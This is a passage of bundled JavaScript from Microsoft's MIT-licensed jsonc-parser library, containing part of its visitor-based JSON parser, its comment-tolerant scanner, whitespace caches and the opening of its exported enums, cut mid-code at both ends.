            return visitFunction ? (arg) => suppressedCallbacks === 0 && visitFunction(arg, _scanner.getTokenOffset(), _scanner.getTokenLength(), _scanner.getTokenStartLine(), _scanner.getTokenStartCharacter(), () => _jsonPath.slice()) : () => true;
        }
        function toBeginVisit(visitFunction) {
            return visitFunction ?
                () => {
                    if (suppressedCallbacks > 0) {
                        suppressedCallbacks++;
                    }
                    else {
                        let cbReturn = visitFunction(_scanner.getTokenOffset(), _scanner.getTokenLength(), _scanner.getTokenStartLine(), _scanner.getTokenStartCharacter(), () => _jsonPath.slice());
                        if (cbReturn === false) {
                            suppressedCallbacks = 1;
                        }
                    }
                }
                : () => true;
        }
        function toEndVisit(visitFunction) {
            return visitFunction ?
                () => {
                    if (suppressedCallbacks > 0) {
                        suppressedCallbacks--;
                    }
                    if (suppressedCallbacks === 0) {
                        visitFunction(_scanner.getTokenOffset(), _scanner.getTokenLength(), _scanner.getTokenStartLine(), _scanner.getTokenStartCharacter());
                    }
                }
                : () => true;
        }
        const onObjectBegin = toBeginVisit(visitor.onObjectBegin), onObjectProperty = toOneArgVisitWithPath(visitor.onObjectProperty), onObjectEnd = toEndVisit(visitor.onObjectEnd), onArrayBegin = toBeginVisit(visitor.onArrayBegin), onArrayEnd = toEndVisit(visitor.onArrayEnd), onLiteralValue = toOneArgVisitWithPath(visitor.onLiteralValue), onSeparator = toOneArgVisit(visitor.onSeparator), onComment = toNoArgVisit(visitor.onComment), onError = toOneArgVisit(visitor.onError);
        const disallowComments = options && options.disallowComments;
        const allowTrailingComma = options && options.allowTrailingComma;
        function scanNext() {
            while (true) {
                const token = _scanner.scan();
                switch (_scanner.getTokenError()) {
                    case 4 /* ScanError.InvalidUnicode */:
                        handleError(14 /* ParseErrorCode.InvalidUnicode */);
                        break;
                    case 5 /* ScanError.InvalidEscapeCharacter */:
                        handleError(15 /* ParseErrorCode.InvalidEscapeCharacter */);
                        break;
                    case 3 /* ScanError.UnexpectedEndOfNumber */:
                        handleError(13 /* ParseErrorCode.UnexpectedEndOfNumber */);
                        break;
                    case 1 /* ScanError.UnexpectedEndOfComment */:
                        if (!disallowComments) {
                            handleError(11 /* ParseErrorCode.UnexpectedEndOfComment */);
                        }
                        break;
                    case 2 /* ScanError.UnexpectedEndOfString */:
                        handleError(12 /* ParseErrorCode.UnexpectedEndOfString */);
                        break;
                    case 6 /* ScanError.InvalidCharacter */:
                        handleError(16 /* ParseErrorCode.InvalidCharacter */);
                        break;
                }
                switch (token) {
                    case 12 /* SyntaxKind.LineCommentTrivia */:
                    case 13 /* SyntaxKind.BlockCommentTrivia */:
                        if (disallowComments) {
                            handleError(10 /* ParseErrorCode.InvalidCommentToken */);
                        }
                        else {
                            onComment();
                        }
                        break;
                    case 16 /* SyntaxKind.Unknown */:
                        handleError(1 /* ParseErrorCode.InvalidSymbol */);
                        break;
                    case 15 /* SyntaxKind.Trivia */:
                    case 14 /* SyntaxKind.LineBreakTrivia */:
                        break;
                    default:
                        return token;
                }
            }
        }
        function handleError(error, skipUntilAfter = [], skipUntil = []) {
            onError(error);
            if (skipUntilAfter.length + skipUntil.length > 0) {
                let token = _scanner.getToken();
                while (token !== 17 /* SyntaxKind.EOF */) {
                    if (skipUntilAfter.indexOf(token) !== -1) {
                        scanNext();
                        break;
                    }
                    else if (skipUntil.indexOf(token) !== -1) {
                        break;
                    }
                    token = scanNext();
                }
            }
        }
        function parseString(isValue) {
            const value = _scanner.getTokenValue();
            if (isValue) {
                onLiteralValue(value);
            }
            else {
                onObjectProperty(value);
                // add property name afterwards
                _jsonPath.push(value);
            }
            scanNext();
            return true;
        }
        function parseLiteral() {
            switch (_scanner.getToken()) {
                case 11 /* SyntaxKind.NumericLiteral */:
                    const tokenValue = _scanner.getTokenValue();
                    let value = Number(tokenValue);
                    if (isNaN(value)) {
                        handleError(2 /* ParseErrorCode.InvalidNumberFormat */);
                        value = 0;
                    }
                    onLiteralValue(value);
                    break;
                case 7 /* SyntaxKind.NullKeyword */:
                    onLiteralValue(null);
                    break;
                case 8 /* SyntaxKind.TrueKeyword */:
                    onLiteralValue(true);
                    break;
                case 9 /* SyntaxKind.FalseKeyword */:
                    onLiteralValue(false);
                    break;
                default:
                    return false;
            }
            scanNext();
            return true;
        }
        function parseProperty() {
            if (_scanner.getToken() !== 10 /* SyntaxKind.StringLiteral */) {
                handleError(3 /* ParseErrorCode.PropertyNameExpected */, [], [2 /* SyntaxKind.CloseBraceToken */, 5 /* SyntaxKind.CommaToken */]);
                return false;
            }
            parseString(false);
            if (_scanner.getToken() === 6 /* SyntaxKind.ColonToken */) {
                onSeparator(':');
                scanNext(); // consume colon
                if (!parseValue()) {
                    handleError(4 /* ParseErrorCode.ValueExpected */, [], [2 /* SyntaxKind.CloseBraceToken */, 5 /* SyntaxKind.CommaToken */]);
                }
            }
            else {
                handleError(5 /* ParseErrorCode.ColonExpected */, [], [2 /* SyntaxKind.CloseBraceToken */, 5 /* SyntaxKind.CommaToken */]);
            }
            _jsonPath.pop(); // remove processed property name
            return true;
        }
        function parseObject() {
            onObjectBegin();
            scanNext(); // consume open brace
            let needsComma = false;
            while (_scanner.getToken() !== 2 /* SyntaxKind.CloseBraceToken */ && _scanner.getToken() !== 17 /* SyntaxKind.EOF */) {
                if (_scanner.getToken() === 5 /* SyntaxKind.CommaToken */) {
                    if (!needsComma) {
                        handleError(4 /* ParseErrorCode.ValueExpected */, [], []);
                    }
                    onSeparator(',');
                    scanNext(); // consume comma
                    if (_scanner.getToken() === 2 /* SyntaxKind.CloseBraceToken */ && allowTrailingComma) {
                        break;
                    }
                }
                else if (needsComma) {
                    handleError(6 /* ParseErrorCode.CommaExpected */, [], []);
                }
                if (!parseProperty()) {
                    handleError(4 /* ParseErrorCode.ValueExpected */, [], [2 /* SyntaxKind.CloseBraceToken */, 5 /* SyntaxKind.CommaToken */]);
                }
                needsComma = true;
            }
            onObjectEnd();
            if (_scanner.getToken() !== 2 /* SyntaxKind.CloseBraceToken */) {
                handleError(7 /* ParseErrorCode.CloseBraceExpected */, [2 /* SyntaxKind.CloseBraceToken */], []);
            }
            else {
                scanNext(); // consume close brace
            }
            return true;
        }
        function parseArray() {
            onArrayBegin();
            scanNext(); // consume open bracket
            let isFirstElement = true;
            let needsComma = false;
            while (_scanner.getToken() !== 4 /* SyntaxKind.CloseBracketToken */ && _scanner.getToken() !== 17 /* SyntaxKind.EOF */) {
                if (_scanner.getToken() === 5 /* SyntaxKind.CommaToken */) {
                    if (!needsComma) {
                        handleError(4 /* ParseErrorCode.ValueExpected */, [], []);
                    }
                    onSeparator(',');
                    scanNext(); // consume comma
                    if (_scanner.getToken() === 4 /* SyntaxKind.CloseBracketToken */ && allowTrailingComma) {
                        break;
                    }
                }
                else if (needsComma) {
                    handleError(6 /* ParseErrorCode.CommaExpected */, [], []);
                }
                if (isFirstElement) {
                    _jsonPath.push(0);
                    isFirstElement = false;
                }
                else {
                    _jsonPath[_jsonPath.length - 1]++;
                }
                if (!parseValue()) {
                    handleError(4 /* ParseErrorCode.ValueExpected */, [], [4 /* SyntaxKind.CloseBracketToken */, 5 /* SyntaxKind.CommaToken */]);
                }
                needsComma = true;
            }
            onArrayEnd();
            if (!isFirstElement) {
                _jsonPath.pop(); // remove array index
            }
            if (_scanner.getToken() !== 4 /* SyntaxKind.CloseBracketToken */) {
                handleError(8 /* ParseErrorCode.CloseBracketExpected */, [4 /* SyntaxKind.CloseBracketToken */], []);
            }
            else {
                scanNext(); // consume close bracket
            }
            return true;
        }
        function parseValue() {
            switch (_scanner.getToken()) {
                case 3 /* SyntaxKind.OpenBracketToken */:
                    return parseArray();
                case 1 /* SyntaxKind.OpenBraceToken */:
                    return parseObject();
                case 10 /* SyntaxKind.StringLiteral */:
                    return parseString(true);
                default:
                    return parseLiteral();
            }
        }
        scanNext();
        if (_scanner.getToken() === 17 /* SyntaxKind.EOF */) {
            if (options.allowEmptyContent) {
                return true;
            }
            handleError(4 /* ParseErrorCode.ValueExpected */, [], []);
            return false;
        }
        if (!parseValue()) {
            handleError(4 /* ParseErrorCode.ValueExpected */, [], []);
            return false;
        }
        if (_scanner.getToken() !== 17 /* SyntaxKind.EOF */) {
            handleError(9 /* ParseErrorCode.EndOfFileExpected */, [], []);
        }
        return true;
    }
    exports.visit = visit;
    /**
     * Takes JSON with JavaScript-style comments and remove
     * them. Optionally replaces every none-newline character
     * of comments with a replaceCharacter
     */
    function stripComments(text, replaceCh) {
        let _scanner = (0, scanner_1.createScanner)(text), parts = [], kind, offset = 0, pos;
        do {
            pos = _scanner.getPosition();
            kind = _scanner.scan();
            switch (kind) {
                case 12 /* SyntaxKind.LineCommentTrivia */:
                case 13 /* SyntaxKind.BlockCommentTrivia */:
                case 17 /* SyntaxKind.EOF */:
                    if (offset !== pos) {
                        parts.push(text.substring(offset, pos));
                    }
                    if (replaceCh !== undefined) {
                        parts.push(_scanner.getTokenValue().replace(/[^\r\n]/g, replaceCh));
                    }
                    offset = _scanner.getPosition();
                    break;
            }
        } while (kind !== 17 /* SyntaxKind.EOF */);
        return parts.join('');
    }
    exports.stripComments = stripComments;
    function getNodeType(value) {
        switch (typeof value) {
            case 'boolean': return 'boolean';
            case 'number': return 'number';
            case 'string': return 'string';
            case 'object': {
                if (!value) {
                    return 'null';
                }
                else if (Array.isArray(value)) {
                    return 'array';
                }
                return 'object';
            }
            default: return 'null';
        }
    }
    exports.getNodeType = getNodeType;
});


/***/ }),

/***/ 8525:
/***/ ((module, exports) => {

(function (factory) {
    if ( true && typeof module.exports === "object") {
        var v = factory(__WEBPACK_EXTERNAL_createRequire(import.meta.url), exports);
        if (v !== undefined) module.exports = v;
    }
    else if (typeof define === "function" && define.amd) {
        define(["require", "exports"], factory);
    }
})(function () {
    /*---------------------------------------------------------------------------------------------
     *  Copyright (c) Microsoft Corporation. All rights reserved.
     *  Licensed under the MIT License. See License.txt in the project root for license information.
     *--------------------------------------------------------------------------------------------*/
    'use strict';
    Object.defineProperty(exports, "__esModule", ({ value: true }));
    exports.createScanner = void 0;
    /**
     * Creates a JSON scanner on the given text.
     * If ignoreTrivia is set, whitespaces or comments are ignored.
     */
    function createScanner(text, ignoreTrivia = false) {
        const len = text.length;
        let pos = 0, value = '', tokenOffset = 0, token = 16 /* SyntaxKind.Unknown */, lineNumber = 0, lineStartOffset = 0, tokenLineStartOffset = 0, prevTokenLineStartOffset = 0, scanError = 0 /* ScanError.None */;
        function scanHexDigits(count, exact) {
            let digits = 0;
            let value = 0;
            while (digits < count || !exact) {
                let ch = text.charCodeAt(pos);
                if (ch >= 48 /* CharacterCodes._0 */ && ch <= 57 /* CharacterCodes._9 */) {
                    value = value * 16 + ch - 48 /* CharacterCodes._0 */;
                }
                else if (ch >= 65 /* CharacterCodes.A */ && ch <= 70 /* CharacterCodes.F */) {
                    value = value * 16 + ch - 65 /* CharacterCodes.A */ + 10;
                }
                else if (ch >= 97 /* CharacterCodes.a */ && ch <= 102 /* CharacterCodes.f */) {
                    value = value * 16 + ch - 97 /* CharacterCodes.a */ + 10;
                }
                else {
                    break;
                }
                pos++;
                digits++;
            }
            if (digits < count) {
                value = -1;
            }
            return value;
        }
        function setPosition(newPosition) {
            pos = newPosition;
            value = '';
            tokenOffset = 0;
            token = 16 /* SyntaxKind.Unknown */;
            scanError = 0 /* ScanError.None */;
        }
        function scanNumber() {
            let start = pos;
            if (text.charCodeAt(pos) === 48 /* CharacterCodes._0 */) {
                pos++;
            }
            else {
                pos++;
                while (pos < text.length && isDigit(text.charCodeAt(pos))) {
                    pos++;
                }
            }
            if (pos < text.length && text.charCodeAt(pos) === 46 /* CharacterCodes.dot */) {
                pos++;
                if (pos < text.length && isDigit(text.charCodeAt(pos))) {
                    pos++;
                    while (pos < text.length && isDigit(text.charCodeAt(pos))) {
                        pos++;
                    }
                }
                else {
                    scanError = 3 /* ScanError.UnexpectedEndOfNumber */;
                    return text.substring(start, pos);
                }
            }
            let end = pos;
            if (pos < text.length && (text.charCodeAt(pos) === 69 /* CharacterCodes.E */ || text.charCodeAt(pos) === 101 /* CharacterCodes.e */)) {
                pos++;
                if (pos < text.length && text.charCodeAt(pos) === 43 /* CharacterCodes.plus */ || text.charCodeAt(pos) === 45 /* CharacterCodes.minus */) {
                    pos++;
                }
                if (pos < text.length && isDigit(text.charCodeAt(pos))) {
                    pos++;
                    while (pos < text.length && isDigit(text.charCodeAt(pos))) {
                        pos++;
                    }
                    end = pos;
                }
                else {
                    scanError = 3 /* ScanError.UnexpectedEndOfNumber */;
                }
            }
            return text.substring(start, end);
        }
        function scanString() {
            let result = '', start = pos;
            while (true) {
                if (pos >= len) {
                    result += text.substring(start, pos);
                    scanError = 2 /* ScanError.UnexpectedEndOfString */;
                    break;
                }
                const ch = text.charCodeAt(pos);
                if (ch === 34 /* CharacterCodes.doubleQuote */) {
                    result += text.substring(start, pos);
                    pos++;
                    break;
                }
                if (ch === 92 /* CharacterCodes.backslash */) {
                    result += text.substring(start, pos);
                    pos++;
                    if (pos >= len) {
                        scanError = 2 /* ScanError.UnexpectedEndOfString */;
                        break;
                    }
                    const ch2 = text.charCodeAt(pos++);
                    switch (ch2) {
                        case 34 /* CharacterCodes.doubleQuote */:
                            result += '\"';
                            break;
                        case 92 /* CharacterCodes.backslash */:
                            result += '\\';
                            break;
                        case 47 /* CharacterCodes.slash */:
                            result += '/';
                            break;
                        case 98 /* CharacterCodes.b */:
                            result += '\b';
                            break;
                        case 102 /* CharacterCodes.f */:
                            result += '\f';
                            break;
                        case 110 /* CharacterCodes.n */:
                            result += '\n';
                            break;
                        case 114 /* CharacterCodes.r */:
                            result += '\r';
                            break;
                        case 116 /* CharacterCodes.t */:
                            result += '\t';
                            break;
                        case 117 /* CharacterCodes.u */:
                            const ch3 = scanHexDigits(4, true);
                            if (ch3 >= 0) {
                                result += String.fromCharCode(ch3);
                            }
                            else {
                                scanError = 4 /* ScanError.InvalidUnicode */;
                            }
                            break;
                        default:
                            scanError = 5 /* ScanError.InvalidEscapeCharacter */;
                    }
                    start = pos;
                    continue;
                }
                if (ch >= 0 && ch <= 0x1f) {
                    if (isLineBreak(ch)) {
                        result += text.substring(start, pos);
                        scanError = 2 /* ScanError.UnexpectedEndOfString */;
                        break;
                    }
                    else {
                        scanError = 6 /* ScanError.InvalidCharacter */;
                        // mark as error but continue with string
                    }
                }
                pos++;
            }
            return result;
        }
        function scanNext() {
            value = '';
            scanError = 0 /* ScanError.None */;
            tokenOffset = pos;
            lineStartOffset = lineNumber;
            prevTokenLineStartOffset = tokenLineStartOffset;
            if (pos >= len) {
                // at the end
                tokenOffset = len;
                return token = 17 /* SyntaxKind.EOF */;
            }
            let code = text.charCodeAt(pos);
            // trivia: whitespace
            if (isWhiteSpace(code)) {
                do {
                    pos++;
                    value += String.fromCharCode(code);
                    code = text.charCodeAt(pos);
                } while (isWhiteSpace(code));
                return token = 15 /* SyntaxKind.Trivia */;
            }
            // trivia: newlines
            if (isLineBreak(code)) {
                pos++;
                value += String.fromCharCode(code);
                if (code === 13 /* CharacterCodes.carriageReturn */ && text.charCodeAt(pos) === 10 /* CharacterCodes.lineFeed */) {
                    pos++;
                    value += '\n';
                }
                lineNumber++;
                tokenLineStartOffset = pos;
                return token = 14 /* SyntaxKind.LineBreakTrivia */;
            }
            switch (code) {
                // tokens: []{}:,
                case 123 /* CharacterCodes.openBrace */:
                    pos++;
                    return token = 1 /* SyntaxKind.OpenBraceToken */;
                case 125 /* CharacterCodes.closeBrace */:
                    pos++;
                    return token = 2 /* SyntaxKind.CloseBraceToken */;
                case 91 /* CharacterCodes.openBracket */:
                    pos++;
                    return token = 3 /* SyntaxKind.OpenBracketToken */;
                case 93 /* CharacterCodes.closeBracket */:
                    pos++;
                    return token = 4 /* SyntaxKind.CloseBracketToken */;
                case 58 /* CharacterCodes.colon */:
                    pos++;
                    return token = 6 /* SyntaxKind.ColonToken */;
                case 44 /* CharacterCodes.comma */:
                    pos++;
                    return token = 5 /* SyntaxKind.CommaToken */;
                // strings
                case 34 /* CharacterCodes.doubleQuote */:
                    pos++;
                    value = scanString();
                    return token = 10 /* SyntaxKind.StringLiteral */;
                // comments
                case 47 /* CharacterCodes.slash */:
                    const start = pos - 1;
                    // Single-line comment
                    if (text.charCodeAt(pos + 1) === 47 /* CharacterCodes.slash */) {
                        pos += 2;
                        while (pos < len) {
                            if (isLineBreak(text.charCodeAt(pos))) {
                                break;
                            }
                            pos++;
                        }
                        value = text.substring(start, pos);
                        return token = 12 /* SyntaxKind.LineCommentTrivia */;
                    }
                    // Multi-line comment
                    if (text.charCodeAt(pos + 1) === 42 /* CharacterCodes.asterisk */) {
                        pos += 2;
                        const safeLength = len - 1; // For lookahead.
                        let commentClosed = false;
                        while (pos < safeLength) {
                            const ch = text.charCodeAt(pos);
                            if (ch === 42 /* CharacterCodes.asterisk */ && text.charCodeAt(pos + 1) === 47 /* CharacterCodes.slash */) {
                                pos += 2;
                                commentClosed = true;
                                break;
                            }
                            pos++;
                            if (isLineBreak(ch)) {
                                if (ch === 13 /* CharacterCodes.carriageReturn */ && text.charCodeAt(pos) === 10 /* CharacterCodes.lineFeed */) {
                                    pos++;
                                }
                                lineNumber++;
                                tokenLineStartOffset = pos;
                            }
                        }
                        if (!commentClosed) {
                            pos++;
                            scanError = 1 /* ScanError.UnexpectedEndOfComment */;
                        }
                        value = text.substring(start, pos);
                        return token = 13 /* SyntaxKind.BlockCommentTrivia */;
                    }
                    // just a single slash
                    value += String.fromCharCode(code);
                    pos++;
                    return token = 16 /* SyntaxKind.Unknown */;
                // numbers
                case 45 /* CharacterCodes.minus */:
                    value += String.fromCharCode(code);
                    pos++;
                    if (pos === len || !isDigit(text.charCodeAt(pos))) {
                        return token = 16 /* SyntaxKind.Unknown */;
                    }
                // found a minus, followed by a number so
                // we fall through to proceed with scanning
                // numbers
                case 48 /* CharacterCodes._0 */:
                case 49 /* CharacterCodes._1 */:
                case 50 /* CharacterCodes._2 */:
                case 51 /* CharacterCodes._3 */:
                case 52 /* CharacterCodes._4 */:
                case 53 /* CharacterCodes._5 */:
                case 54 /* CharacterCodes._6 */:
                case 55 /* CharacterCodes._7 */:
                case 56 /* CharacterCodes._8 */:
                case 57 /* CharacterCodes._9 */:
                    value += scanNumber();
                    return token = 11 /* SyntaxKind.NumericLiteral */;
                // literals and unknown symbols
                default:
                    // is a literal? Read the full word.
                    while (pos < len && isUnknownContentCharacter(code)) {
                        pos++;
                        code = text.charCodeAt(pos);
                    }
                    if (tokenOffset !== pos) {
                        value = text.substring(tokenOffset, pos);
                        // keywords: true, false, null
                        switch (value) {
                            case 'true': return token = 8 /* SyntaxKind.TrueKeyword */;
                            case 'false': return token = 9 /* SyntaxKind.FalseKeyword */;
                            case 'null': return token = 7 /* SyntaxKind.NullKeyword */;
                        }
                        return token = 16 /* SyntaxKind.Unknown */;
                    }
                    // some
                    value += String.fromCharCode(code);
                    pos++;
                    return token = 16 /* SyntaxKind.Unknown */;
            }
        }
        function isUnknownContentCharacter(code) {
            if (isWhiteSpace(code) || isLineBreak(code)) {
                return false;
            }
            switch (code) {
                case 125 /* CharacterCodes.closeBrace */:
                case 93 /* CharacterCodes.closeBracket */:
                case 123 /* CharacterCodes.openBrace */:
                case 91 /* CharacterCodes.openBracket */:
                case 34 /* CharacterCodes.doubleQuote */:
                case 58 /* CharacterCodes.colon */:
                case 44 /* CharacterCodes.comma */:
                case 47 /* CharacterCodes.slash */:
                    return false;
            }
            return true;
        }
        function scanNextNonTrivia() {
            let result;
            do {
                result = scanNext();
            } while (result >= 12 /* SyntaxKind.LineCommentTrivia */ && result <= 15 /* SyntaxKind.Trivia */);
            return result;
        }
        return {
            setPosition: setPosition,
            getPosition: () => pos,
            scan: ignoreTrivia ? scanNextNonTrivia : scanNext,
            getToken: () => token,
            getTokenValue: () => value,
            getTokenOffset: () => tokenOffset,
            getTokenLength: () => pos - tokenOffset,
            getTokenStartLine: () => lineStartOffset,
            getTokenStartCharacter: () => tokenOffset - prevTokenLineStartOffset,
            getTokenError: () => scanError,
        };
    }
    exports.createScanner = createScanner;
    function isWhiteSpace(ch) {
        return ch === 32 /* CharacterCodes.space */ || ch === 9 /* CharacterCodes.tab */;
    }
    function isLineBreak(ch) {
        return ch === 10 /* CharacterCodes.lineFeed */ || ch === 13 /* CharacterCodes.carriageReturn */;
    }
    function isDigit(ch) {
        return ch >= 48 /* CharacterCodes._0 */ && ch <= 57 /* CharacterCodes._9 */;
    }
    var CharacterCodes;
    (function (CharacterCodes) {
        CharacterCodes[CharacterCodes["lineFeed"] = 10] = "lineFeed";
        CharacterCodes[CharacterCodes["carriageReturn"] = 13] = "carriageReturn";
        CharacterCodes[CharacterCodes["space"] = 32] = "space";
        CharacterCodes[CharacterCodes["_0"] = 48] = "_0";
        CharacterCodes[CharacterCodes["_1"] = 49] = "_1";
        CharacterCodes[CharacterCodes["_2"] = 50] = "_2";
        CharacterCodes[CharacterCodes["_3"] = 51] = "_3";
        CharacterCodes[CharacterCodes["_4"] = 52] = "_4";
        CharacterCodes[CharacterCodes["_5"] = 53] = "_5";
        CharacterCodes[CharacterCodes["_6"] = 54] = "_6";
        CharacterCodes[CharacterCodes["_7"] = 55] = "_7";
        CharacterCodes[CharacterCodes["_8"] = 56] = "_8";
        CharacterCodes[CharacterCodes["_9"] = 57] = "_9";
        CharacterCodes[CharacterCodes["a"] = 97] = "a";
        CharacterCodes[CharacterCodes["b"] = 98] = "b";
        CharacterCodes[CharacterCodes["c"] = 99] = "c";
        CharacterCodes[CharacterCodes["d"] = 100] = "d";
        CharacterCodes[CharacterCodes["e"] = 101] = "e";
        CharacterCodes[CharacterCodes["f"] = 102] = "f";
        CharacterCodes[CharacterCodes["g"] = 103] = "g";
        CharacterCodes[CharacterCodes["h"] = 104] = "h";
        CharacterCodes[CharacterCodes["i"] = 105] = "i";
        CharacterCodes[CharacterCodes["j"] = 106] = "j";
        CharacterCodes[CharacterCodes["k"] = 107] = "k";
        CharacterCodes[CharacterCodes["l"] = 108] = "l";
        CharacterCodes[CharacterCodes["m"] = 109] = "m";
        CharacterCodes[CharacterCodes["n"] = 110] = "n";
        CharacterCodes[CharacterCodes["o"] = 111] = "o";
        CharacterCodes[CharacterCodes["p"] = 112] = "p";
        CharacterCodes[CharacterCodes["q"] = 113] = "q";
        CharacterCodes[CharacterCodes["r"] = 114] = "r";
        CharacterCodes[CharacterCodes["s"] = 115] = "s";
        CharacterCodes[CharacterCodes["t"] = 116] = "t";
        CharacterCodes[CharacterCodes["u"] = 117] = "u";
        CharacterCodes[CharacterCodes["v"] = 118] = "v";
        CharacterCodes[CharacterCodes["w"] = 119] = "w";
        CharacterCodes[CharacterCodes["x"] = 120] = "x";
        CharacterCodes[CharacterCodes["y"] = 121] = "y";
        CharacterCodes[CharacterCodes["z"] = 122] = "z";
        CharacterCodes[CharacterCodes["A"] = 65] = "A";
        CharacterCodes[CharacterCodes["B"] = 66] = "B";
        CharacterCodes[CharacterCodes["C"] = 67] = "C";
        CharacterCodes[CharacterCodes["D"] = 68] = "D";
        CharacterCodes[CharacterCodes["E"] = 69] = "E";
        CharacterCodes[CharacterCodes["F"] = 70] = "F";
        CharacterCodes[CharacterCodes["G"] = 71] = "G";
        CharacterCodes[CharacterCodes["H"] = 72] = "H";
        CharacterCodes[CharacterCodes["I"] = 73] = "I";
        CharacterCodes[CharacterCodes["J"] = 74] = "J";
        CharacterCodes[CharacterCodes["K"] = 75] = "K";
        CharacterCodes[CharacterCodes["L"] = 76] = "L";
        CharacterCodes[CharacterCodes["M"] = 77] = "M";
        CharacterCodes[CharacterCodes["N"] = 78] = "N";
        CharacterCodes[CharacterCodes["O"] = 79] = "O";
        CharacterCodes[CharacterCodes["P"] = 80] = "P";
        CharacterCodes[CharacterCodes["Q"] = 81] = "Q";
        CharacterCodes[CharacterCodes["R"] = 82] = "R";
        CharacterCodes[CharacterCodes["S"] = 83] = "S";
        CharacterCodes[CharacterCodes["T"] = 84] = "T";
        CharacterCodes[CharacterCodes["U"] = 85] = "U";
        CharacterCodes[CharacterCodes["V"] = 86] = "V";
        CharacterCodes[CharacterCodes["W"] = 87] = "W";
        CharacterCodes[CharacterCodes["X"] = 88] = "X";
        CharacterCodes[CharacterCodes["Y"] = 89] = "Y";
        CharacterCodes[CharacterCodes["Z"] = 90] = "Z";
        CharacterCodes[CharacterCodes["asterisk"] = 42] = "asterisk";
        CharacterCodes[CharacterCodes["backslash"] = 92] = "backslash";
        CharacterCodes[CharacterCodes["closeBrace"] = 125] = "closeBrace";
        CharacterCodes[CharacterCodes["closeBracket"] = 93] = "closeBracket";
        CharacterCodes[CharacterCodes["colon"] = 58] = "colon";
        CharacterCodes[CharacterCodes["comma"] = 44] = "comma";
        CharacterCodes[CharacterCodes["dot"] = 46] = "dot";
        CharacterCodes[CharacterCodes["doubleQuote"] = 34] = "doubleQuote";
        CharacterCodes[CharacterCodes["minus"] = 45] = "minus";
        CharacterCodes[CharacterCodes["openBrace"] = 123] = "openBrace";
        CharacterCodes[CharacterCodes["openBracket"] = 91] = "openBracket";
        CharacterCodes[CharacterCodes["plus"] = 43] = "plus";
        CharacterCodes[CharacterCodes["slash"] = 47] = "slash";
        CharacterCodes[CharacterCodes["formFeed"] = 12] = "formFeed";
        CharacterCodes[CharacterCodes["tab"] = 9] = "tab";
    })(CharacterCodes || (CharacterCodes = {}));
});


/***/ }),

/***/ 4579:
/***/ ((module, exports) => {

(function (factory) {
    if ( true && typeof module.exports === "object") {
        var v = factory(__WEBPACK_EXTERNAL_createRequire(import.meta.url), exports);
        if (v !== undefined) module.exports = v;
    }
    else if (typeof define === "function" && define.amd) {
        define(["require", "exports"], factory);
    }
})(function () {
    "use strict";
    Object.defineProperty(exports, "__esModule", ({ value: true }));
    exports.supportedEols = exports.cachedBreakLinesWithSpaces = exports.cachedSpaces = void 0;
    exports.cachedSpaces = new Array(20).fill(0).map((_, index) => {
        return ' '.repeat(index);
    });
    const maxCachedValues = 200;
    exports.cachedBreakLinesWithSpaces = {
        ' ': {
            '\n': new Array(maxCachedValues).fill(0).map((_, index) => {
                return '\n' + ' '.repeat(index);
            }),
            '\r': new Array(maxCachedValues).fill(0).map((_, index) => {
                return '\r' + ' '.repeat(index);
            }),
            '\r\n': new Array(maxCachedValues).fill(0).map((_, index) => {
                return '\r\n' + ' '.repeat(index);
            }),
        },
        '\t': {
            '\n': new Array(maxCachedValues).fill(0).map((_, index) => {
                return '\n' + '\t'.repeat(index);
            }),
            '\r': new Array(maxCachedValues).fill(0).map((_, index) => {
                return '\r' + '\t'.repeat(index);
            }),
            '\r\n': new Array(maxCachedValues).fill(0).map((_, index) => {
                return '\r\n' + '\t'.repeat(index);
            }),
        }
    };
    exports.supportedEols = ['\n', '\r', '\r\n'];
});


/***/ }),

/***/ 9547:
/***/ ((module, exports, __nccwpck_require__) => {

(function (factory) {
    if ( true && typeof module.exports === "object") {
        var v = factory(__WEBPACK_EXTERNAL_createRequire(import.meta.url), exports);
        if (v !== undefined) module.exports = v;
    }
    else if (typeof define === "function" && define.amd) {
        define(["require", "exports", "./impl/format", "./impl/edit", "./impl/scanner", "./impl/parser"], factory);
    }
})(function () {
    /*---------------------------------------------------------------------------------------------
     *  Copyright (c) Microsoft Corporation. All rights reserved.
     *  Licensed under the MIT License. See License.txt in the project root for license information.
     *--------------------------------------------------------------------------------------------*/
    'use strict';
    Object.defineProperty(exports, "__esModule", ({ value: true }));
    exports.applyEdits = exports.modify = exports.format = exports.printParseErrorCode = exports.ParseErrorCode = exports.stripComments = exports.visit = exports.getNodeValue = exports.getNodePath = exports.findNodeAtOffset = exports.findNodeAtLocation = exports.parseTree = exports.parse = exports.getLocation = exports.SyntaxKind = exports.ScanError = exports.createScanner = void 0;
    const formatter = __nccwpck_require__(6612);
    const edit = __nccwpck_require__(4807);
    const scanner = __nccwpck_require__(8525);
    const parser = __nccwpck_require__(5152);
    /**
     * Creates a JSON scanner on the given text.
     * If ignoreTrivia is set, whitespaces or comments are ignored.
     */
    exports.createScanner = scanner.createScanner;
    var ScanError;
    (function (ScanError) {
        ScanError[ScanError["None"] = 0] = "None";
        ScanError[ScanError["UnexpectedEndOfComment"] = 1] = "UnexpectedEndOfComment";
        ScanError[ScanError["UnexpectedEndOfString"] = 2] = "UnexpectedEndOfString";
        ScanError[ScanError["UnexpectedEndOfNumber"] = 3] = "UnexpectedEndOfNumber";
        ScanError[ScanError["InvalidUnicode"] = 4] = "InvalidUnicode";
        ScanError[ScanError["InvalidEscapeCharacter"] = 5] = "InvalidEscapeCharacter";
        ScanError[ScanError["InvalidCharacter"] = 6] = "InvalidCharacter";
    })(ScanError || (exports.ScanError = ScanError = {}));
    var SyntaxKind;
    (function (SyntaxKind) {
        SyntaxKind[SyntaxKind["OpenBraceToken"] = 1] = "OpenBraceToken";
        SyntaxKind[SyntaxKind["CloseBraceToken"] = 2] = "CloseBraceToken";
        SyntaxKind[SyntaxKind["OpenBracketToken"] = 3] = "OpenBracketToken";
        SyntaxKind[SyntaxKind["CloseBracketToken"] = 4] = "CloseBracketToken";
        SyntaxKind[SyntaxKind["CommaToken"] = 5] = "CommaToken";
        SyntaxKind[SyntaxKind["ColonToken"] = 6] = "ColonToken";
        SyntaxKind[SyntaxKind["NullKeyword"] = 7] = "NullKeyword";
        SyntaxKind[SyntaxKind["TrueKeyword"] = 8] = "TrueKeyword";
        SyntaxKind[SyntaxKind["FalseKeyword"] = 9] = "FalseKeyword";
        SyntaxKind[SyntaxKind["StringLiteral"] = 10] = "StringLiteral";
        SyntaxKind[SyntaxKind["NumericLiteral"] = 11] = "NumericLiteral";
        SyntaxKind[SyntaxKind["LineCommentTrivia"] = 12] = "LineCommentTrivia";
